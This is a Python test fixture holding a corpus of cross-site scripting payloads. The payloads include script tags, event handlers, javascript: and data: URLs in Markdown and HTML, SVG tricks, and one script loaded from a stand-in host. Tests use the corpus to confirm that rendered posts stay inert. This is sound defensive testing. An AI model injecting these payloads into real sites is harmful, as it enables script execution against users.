"""Hostile inputs for posts: each is stored as a title, a body, an answer and a comment.

Reused by the browser test (tests/browser/) that checks that nothing executes; the server-side
test (test_xss.py) checks the rendered HTML carries no script, handler or script URL.
"""

from __future__ import annotations

XSS_CORPUS: list[str] = [
    # Script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=# onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<iMg SrC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    # Script URLs in Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://example.org "title" onclick="alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    "[a](<javascript:alert(1)>)",
    # Raw HTML with script URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Broken and nested markup
    "<img src=`x`onerror=alert(1)>",
    "<<img src=x onerror=alert(1)//<",
    "<a href='javascript:alert(1)'",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'javascript:alert(1)';</style>",
    # Markdown code and math must stay inert
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    "$\\href{javascript:alert(1)}{x}$",
    # Mentions and odd characters
    "@<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
]
